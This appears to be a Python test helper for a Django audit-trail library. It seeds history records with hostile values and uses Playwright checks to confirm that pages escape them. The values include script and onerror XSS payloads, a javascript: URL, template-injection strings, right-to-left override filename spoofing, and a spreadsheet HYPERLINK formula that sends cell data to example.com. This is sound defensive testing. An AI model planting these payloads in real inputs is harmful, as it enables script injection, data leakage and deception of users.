"""Values that break pages which trust them: markup, quotes, marks of direction, formulas, and far too much."""

from __future__ import annotations

from typing import Any, Final

from django.contrib.auth.models import User
from django.db.transaction import atomic
from playwright.sync_api import Page

from audittrail import history
from audittrail.models import Revision
from tests.browser.accessibility import overflow
from tests.testapp.models import (
    Country,
    Customer,
    CustomerProfile,
    Document,
    Membership,
    Order,
    Organization,
    Person,
    Product,
    Specimen,
    Tag,
    TaggedNote,
)

MARKUP: Final = "<script>window.brokenInto = 1</script>"
ATTRIBUTE: Final = '"\'><img src=/static/none onerror="window.brokenInto = 1">'
FORMULA: Final = '=HYPERLINK("http://example.com/?"&A1)'
DIRECTION: Final = "\u202egnp.exe\u2066 \u200f!"
TEMPLATE: Final = "{{ request.user.password }} {% now 'Y' %} ${1 + 1}"
ALL: Final = f"{MARKUP} {ATTRIBUTE} {DIRECTION} {TEMPLATE}"
MUCH: Final = "word " * 200_000
#: As long, and without a place to break.
UNBROKEN: Final = "x" * 1_000_000
LONGER: Final = (f"{ALL} {UNBROKEN}", f"{DIRECTION} {MUCH}")

#: Elements and attributes that only come from a value that was taken for markup, and text that turns what stands after it.
INTRUDERS: Final = """() => {
    const found = window.brokenInto ? ["a script of a value ran"] : [];
    for (const element of document.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
            const isAddress = ["href", "src", "action", "formaction"].includes(name);
            if (name.startsWith("on") || (isAddress && /^\\s*javascript:/i.test(value)))
                found.push(element.outerHTML.slice(0, 200));
        }
    }
    for (const element of document.querySelectorAll("script:not([src]), img[src='/static/none'], main b"))
        found.push(element.outerHTML.slice(0, 200));
    return found;
}"""

#: Blocks with a mark of direction in a text that nothing isolates, and all that they say.
TURNED: Final = """() => {
    const found = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
        let element = walker.currentNode.parentElement;
        if (!walker.currentNode.data.includes("\u202e") || !element.checkVisibility()) continue;
        const looks = () => getComputedStyle(element);
        while (looks().display === "inline" && looks().unicodeBidi === "normal") element = element.parentElement;
        // Blocks are isolated by the browser, whatever else they hold; a <bdi> holds a value alone, also as an inline block.
        const holdsMore = looks().display.includes("block") && element.localName !== "bdi";
        if (looks().unicodeBidi !== "isolate" || holdsMore)
            found.push([element.textContent.trim().slice(0, 500), element.outerHTML.slice(0, 300)]);
    }
    return found;
}"""


def make() -> dict[str, Any]:
    """Write hostile values into every place that a page of history shows, in a few revisions; return the objects by name."""
    user = User.objects.create(username=ALL[:150], first_name=MARKUP, is_staff=True)
    context = {MARKUP: ATTRIBUTE, "path": ALL, "command": ATTRIBUTE}
    with history.context(user=user, reason=ALL, **context), atomic(), atomic():
        customer = Customer.objects.create(name=ALL[:100], email=f"{FORMULA[:60]}@x.example")
        product = Product.objects.create(name=ALL[:100])
        customer.favourites.add(product)
        CustomerProfile.objects.create(customer=customer, bio=MUCH)
        specimen = Specimen.objects.create(
            name=ALL[:100],
            data={MARKUP: [ATTRIBUTE, {DIRECTION: "null byte: \\u0000"}], "": FORMULA, "x": MUCH},
            matrix=[[MARKUP, ATTRIBUTE]],
            file=f"{MARKUP}.txt",
            blob=ALL.encode(),
        )
    with history.context(user=user, reason=FORMULA), atomic():
        order = Order.objects.create(
            customer=customer,
            reference=MARKUP[:20],
            details={MARKUP: [ATTRIBUTE, {DIRECTION: "null byte: \\u0000"}], "": FORMULA},
        )
        document = Document.objects.create(title=ALL[:200], owner=user, body=MUCH)
        gone = Document.objects.create(title=ALL[:200], owner=user, body=UNBROKEN)
        tag = Tag.objects.create(name=MARKUP[:50])
        product.tags.add(tag)
        country = Country.objects.create(code='"<', name=ALL[:100])
        organization = Organization.objects.create(name=ALL[:100], country=country)
        person = Person.objects.create(name=ALL[:100], email=MARKUP)
        Membership.objects.create(person=person, organization=organization, role=ALL[:50])
        note = TaggedNote.objects.create(target=country, text=f"{MARKUP} {UNBROKEN}")
    with history.context(user=user, reason=f"{DIRECTION} {MUCH}", note=MUCH), atomic():
        Document.objects.filter(pk=document.pk).update(title=ATTRIBUTE, body=f"{MARKUP} {MUCH}")
        Customer.objects.update(name=ATTRIBUTE)
        CustomerProfile.objects.update(bio=f"{ALL} {MUCH}")
        Specimen.objects.update(
            data=[MARKUP, MUCH], file="javascript:alert(1)", matrix=[[MUCH, MARKUP]]
        )
        Order.objects.update(details=[MARKUP, {DIRECTION: MUCH}])
        TaggedNote.objects.update(text=f"{ALL} {UNBROKEN}")
        Membership.objects.update(role=DIRECTION)
    with history.context(user=user, reason=MARKUP), atomic():
        Document.objects.filter(pk=gone.pk).delete()
        for obj in (person, organization, product):
            obj.delete()
        Country.objects.all().delete()
    return {
        "user": user,
        "customer": customer,
        "document": document,
        "gone": gone,
        "order": order,
        "specimen": specimen,
        "country": country,
        "note": note,
    }


def check(page: Page, longest: int) -> list[str]:
    """Return what a page with hostile values does wrong: runs them, is turned round by them, sticks out, or is too long."""
    found = [*page.evaluate(INTRUDERS)]
    for text, html in page.evaluate(TURNED):
        # Only what stands behind a value is turned by it.
        _, _, behind = text.partition("\u202e")
        if not any(value.partition("\u202e")[2].startswith(behind.rstrip("…")) for value in LONGER):
            found.append(f"turned round: {html}")
    found += [f"{element} sticks out" for element in overflow(page)]
    if (length := len(page.content())) > longest:
        found.append(f"{length} characters")
    return found


def are_shown(page: Page) -> bool:
    """Return whether a page shows any hostile value."""
    text = page.locator("body").inner_text()
    return any(value[:20] in text for value in (MARKUP, ATTRIBUTE, FORMULA, "gnp.exe"))


def revisions() -> list[int]:
    """Return the numbers of the revisions that `make` made, the first first."""
    return [*Revision.objects.exclude(reason="").order_by("pk").values_list("pk", flat=True)]
